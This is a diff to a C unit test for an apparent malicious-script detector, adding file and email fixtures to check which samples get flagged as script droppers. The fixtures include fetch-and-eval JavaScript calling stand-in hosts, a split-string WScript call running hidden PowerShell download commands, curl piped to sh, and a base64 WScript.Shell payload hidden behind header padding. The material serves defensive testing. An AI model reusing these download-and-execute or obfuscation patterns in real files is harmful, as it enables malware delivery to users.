@@ -234,6 +234,27 @@ script_files(void **state)
         {"backup.sh", "#!/bin/sh\ncp -a /home /backup\n", false},
         {"readme.txt", "Run the installer with cmd /c setup", false},
         {"app.py", "print('hello')\n", false},
+        /* sources of programs: nobody's computer starts them */
+        {"build.py",
+         "import os,subprocess\nsubprocess.run(cmd, shell=True)\nos.system('wget "
+         "https://a.example/')"
+         "\neval(x)\n",
+         false},
+        {"install.sh", "#!/bin/sh\ncurl -fsSL https://a.example/k | sh\neval \"$(ssh-agent)\"\n",
+         false},
+        {"invoice.js",
+         "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://bad.example/',false);"
+         "x.send();eval(x.responseText)",
+         true},
+        {"jquery.js",
+         "var m=/a/.exec(s);var x=new XMLHttpRequest();if(t)eval(s);String.fromCharCode(r);"
+         "document.write(unescape(s))",
+         false},
+        {"index.js",
+         "const cp=require('child_process');cp.exec('ls',{shell:true});eval(x);"
+         "fetch('https://a.example/')",
+         false},
+        {"invoice.js", "var w=this['WScr'+'ipt'];eval(a);w.x('powershell -w hidden iwr b')", true},
     };
     (void)state;
     for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
@@ -344,6 +365,14 @@ messages_in_files(void **state)
              "bmV3IEFjdGl2ZVhPYmplY3QoJ1dTY3JpcHQuU2hlbGwnKTsgZXZhbCgp\r\n--q--\r\n");
     (void)state;
     assert_true(content_has_url(m, "https://in.example/"));
+    assert_non_null(content_found(m, "script-dropper"));
+    /* much of nothing in front of what speaks of MIME */
+    m = file("old.eml", "application/octet-stream",
+             arena_printf(a,
+                          "X-Much: %09000d\r\nContent-Type: text/plain; name=a.js\r\n"
+                          "Content-Transfer-Encoding: base64\r\n\r\n"
+                          "bmV3IEFjdGl2ZVhPYmplY3QoJ1dTY3JpcHQuU2hlbGwnKTsgZXZhbCgp\r\n",
+                          0));
     assert_non_null(content_found(m, "script-dropper"));
 }
 
